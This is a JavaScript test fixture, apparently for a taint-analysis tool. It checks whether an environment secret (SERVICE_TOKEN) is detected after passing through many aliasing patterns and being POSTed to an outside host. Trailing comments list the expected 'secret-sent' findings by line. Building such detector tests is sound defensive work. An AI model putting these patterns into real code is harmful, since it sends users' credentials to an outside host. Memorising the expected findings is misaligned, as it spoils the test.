const fs = require('fs');
const base = 'https://example.org/';
const token = process.env.SERVICE_TOKEN;

let a, b;
a = b = [];
b.push(token);
fetch(base, { method: 'POST', body: JSON.stringify(a) });
const c = [];
const d = { c, other: [] };
d.c.push(token);
fetch(base, { method: 'POST', body: JSON.stringify(c) });
const e = [];
const f = {};
f.e = e;
f.e.push(token);
fetch(base, { method: 'POST', body: JSON.stringify(e) });
const g = [];
const [h] = [g];
h.push(token);
fetch(base, { method: 'POST', body: JSON.stringify(g) });
const i = [];
const j = token ? i : [];
j.push(token);
fetch(base, { method: 'POST', body: JSON.stringify(i) });
const k = [];
for (const l of [k]) l.push(token);
fetch(base, { method: 'POST', body: JSON.stringify(k) });
const m = [];
const get = () => m;
get().push(token);
fetch(base, { method: 'POST', body: JSON.stringify(m) });
const n = [];
const add = n.push.bind(n);
add(token);
fetch(base, { method: 'POST', body: JSON.stringify(n) });
const o = [];
Array.prototype.push.call(o, token);
fetch(base, { method: 'POST', body: JSON.stringify(o) });
class Collector {
    constructor(out) {
        this.out = out;
    }
    run() {
        this.out.push(token);
    }
}
const p = [];
new Collector(p).run();
fetch(base, { method: 'POST', body: JSON.stringify(p) });
fetch(base, { method: 'POST', body: JSON.stringify(d.other) });
const q = [];
const r = q;
r.push('x');
fetch(base, { method: 'POST', body: JSON.stringify(q) });
// expect 8 any.secret-sent
// expect 12 any.secret-sent
// expect 17 any.secret-sent
// expect 21 any.secret-sent
// expect 25 any.secret-sent
// expect 28 any.secret-sent
// expect 32 any.secret-sent
// expect 36 any.secret-sent
// expect 39 any.secret-sent
// expect 50 any.secret-sent
